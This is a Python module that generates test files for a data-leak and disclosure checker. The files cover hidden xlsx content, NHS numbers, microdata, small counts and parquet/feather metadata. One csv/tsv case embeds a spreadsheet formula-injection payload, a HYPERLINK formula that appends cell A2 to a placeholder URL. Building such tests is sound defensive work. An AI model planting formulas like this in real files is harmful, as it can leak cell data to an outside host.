"""csv, tsv, xlsx, parquet, feather and json."""

import io
import json
import zipfile
from collections.abc import Callable, Iterator

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.feather
import pyarrow.parquet as pq
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from tests.corpus.case import MARKER, NHS, Case, counts, means, people


def leaks() -> Iterator[Case]:
    for ending, mark in (("csv", ","), ("tsv", "\t")):
        lines = ["area,n", '"=HYPERLINK(""http://x/""&A2)",120', "South,340"]
        yield Case(f"formula.{ending}", "\n".join(lines).replace(",", mark).encode(), "artefact.formula", "line 2")
        records = people().to_csv(index=False, sep=mark).encode()
        yield Case(f"records.{ending}", records, "microdata.records", "column 1")
        bare = people().drop(columns="patient_id").to_csv(index=False, sep=mark).encode()
        yield Case(f"records-without-names.{ending}", bare, "microdata.records", "the whole table")
        small = f"area{mark}count\nNorth{mark}120\nSouth{mark}3\n".encode()
        yield Case(f"small.{ending}", small, "table.small-count", "line 3, column 2")
        yield Case(f"nhs.{ending}", f"who{mark}n\n{NHS}{mark}120\n".encode(), "pii.nhs-number", "line 2, column 1")
    yield from _xlsx()
    yield from _arrow()
    yield Case(
        "small.json",
        json.dumps([{"area": "N", "n": 3}, {"area": "S", "n": 40}]).encode(),
        "table.small-count",
        "item 1",
    )
    yield Case("nhs.json", json.dumps({"note": f"patient {NHS}"}).encode(), "pii.nhs-number", "string 2")
    yield Case("records.json", people().to_json(orient="records").encode(), "microdata.records", "list 1")
    yield Case("columns.json", json.dumps(people().to_dict("list")).encode(), "microdata.records", "columns 1")


def twins() -> Iterator[Case]:
    yield Case("clean.csv", counts().to_csv(index=False).encode())
    yield Case("clean.tsv", means().to_csv(index=False, sep="\t").encode())
    yield Case("clean.xlsx", workbook(lambda book: None))
    yield Case("clean.parquet", arrow(pa.Table.from_pandas(counts())))
    yield Case("clean.feather", feather(pa.Table.from_pandas(means())))
    yield Case("clean.json", counts().to_json(orient="records").encode())


def workbook(change: Callable[[openpyxl.Workbook], None]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Counts"
    for row in [list(counts().columns), *counts().to_numpy().tolist()]:
        sheet.append(row)
    change(book)
    with io.BytesIO() as sink:
        book.save(sink)
        return sink.getvalue()


def added(content: bytes, name: str, part: str) -> bytes:
    """An archive with one more part."""
    with io.BytesIO(content) as source, io.BytesIO() as sink:
        with zipfile.ZipFile(source) as old, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as new:
            for info in old.infolist():
                new.writestr(info, old.read(info))
            new.writestr(name, part)
        return sink.getvalue()


def _xlsx() -> Iterator[Case]:
    def hidden_sheet(state: str) -> Callable[[openpyxl.Workbook], None]:
        def change(book: openpyxl.Workbook) -> None:
            sheet = book.create_sheet("raw")
            sheet.append(["name", "nhs"])
            sheet.append([MARKER, NHS])
            sheet.sheet_state = state

        return change

    def comment(book: openpyxl.Workbook) -> None:
        book.active["B2"].comment = Comment(f"{MARKER} {NHS}", MARKER)

    def author(book: openpyxl.Workbook) -> None:
        book.properties.creator = MARKER

    def defined(book: openpyxl.Workbook) -> None:
        book.defined_names["secret"] = DefinedName("secret", attr_text=f'"{MARKER}"')

    def column(book: openpyxl.Workbook) -> None:
        book.active["E1"] = MARKER
        book.active["E2"] = MARKER
        book.active.column_dimensions["E"].hidden = True

    def row(book: openpyxl.Workbook) -> None:
        book.active.append([MARKER, 400, 500])
        book.active.row_dimensions[5].hidden = True

    def link(book: openpyxl.Workbook) -> None:
        book.active["A2"].hyperlink = f"http://example.org/{MARKER}"

    def footer(book: openpyxl.Workbook) -> None:
        book.active.oddFooter.center.text = MARKER

    def formula(book: openpyxl.Workbook) -> None:
        book.active["D2"] = f'=CONCAT("{MARKER}", B2)'

    def small(book: openpyxl.Workbook) -> None:
        book.active.append(["West", 3, 40])

    hidden = "artefact.hidden-content"
    yield Case("very-hidden.xlsx", workbook(hidden_sheet("veryHidden")), hidden, "sheet 2 (very hidden)", hidden=True)
    yield Case("hidden.xlsx", workbook(hidden_sheet("hidden")), hidden, "sheet 2 (hidden)", hidden=True)
    yield Case("comment.xlsx", workbook(comment), hidden, "comment on cell B2", hidden=True)
    yield Case("author.xlsx", workbook(author), hidden, "properties: creator", hidden=True)
    yield Case("defined.xlsx", workbook(defined), hidden, "defined name 1", hidden=True)
    yield Case("column.xlsx", workbook(column), hidden, "column E", hidden=True)
    yield Case("row.xlsx", workbook(row), hidden, "row 5", hidden=True)
    yield Case("link.xlsx", workbook(link), hidden, "link in cell A2", hidden=True)
    yield Case("footer.xlsx", workbook(footer), hidden, "header or footer", hidden=True)
    yield Case("formula.xlsx", workbook(formula), "artefact.formula", "cell D2", hidden=True)
    yield Case("small.xlsx", workbook(small), "table.small-count", "sheet 1, cell B5")
    plain = workbook(lambda book: None)
    cache = f'<pivotCacheRecords><r><s v="{MARKER}"/><s v="{NHS}"/></r></pivotCacheRecords>'
    pivot = added(plain, "xl/pivotCache/pivotCacheRecords1.xml", cache)
    yield Case("pivot.xlsx", pivot, hidden, "pivot cache", hidden=True)
    away = added(plain, "xl/externalLinks/externalLink1.xml", f"<externalLink><v>{MARKER}</v></externalLink>")
    yield Case("external.xlsx", away, hidden, "external links", hidden=True)
    yield Case("left-over.xlsx", plain + MARKER.encode(), "artefact.left-over", "")


def arrow(table: pa.Table) -> bytes:
    with io.BytesIO() as sink:
        pq.write_table(table, sink)
        return sink.getvalue()


def feather(table: pa.Table) -> bytes:
    with io.BytesIO() as sink:
        pyarrow.feather.write_feather(table, sink)
        return sink.getvalue()


def _arrow() -> Iterator[Case]:
    plain = pa.Table.from_pandas(counts(), preserve_index=False)
    noted = plain.replace_schema_metadata({"who": f"{MARKER} {NHS}"})
    field = plain.cast(pa.schema([plain.field(0).with_metadata({"who": MARKER}), *list(plain.schema)[1:]]))
    areas = pd.Categorical(["North", "South", "East"], categories=["North", "South", "East", MARKER])
    unused = pa.Table.from_pandas(counts().assign(area=areas), preserve_index=False)
    indexed = pa.Table.from_pandas(people().set_index("patient_id"))
    hidden = "artefact.hidden-content"
    for ending, write in (("parquet", arrow), ("feather", feather)):
        yield Case(f"metadata.{ending}", write(noted), hidden, "the file's metadata", hidden=True)
        yield Case(f"field.{ending}", write(field), hidden, "the metadata of column 1", hidden=True)
        yield Case(f"unused.{ending}", write(unused), hidden, "the categories of column 1", hidden=True)
        yield Case(f"index.{ending}", write(indexed), "microdata.records", "column 5")
    yield Case(
        "small.parquet", arrow(pa.table({"area": ["N", "S"], "n": [3, 40]})), "table.small-count", "row 1, column 2"
    )
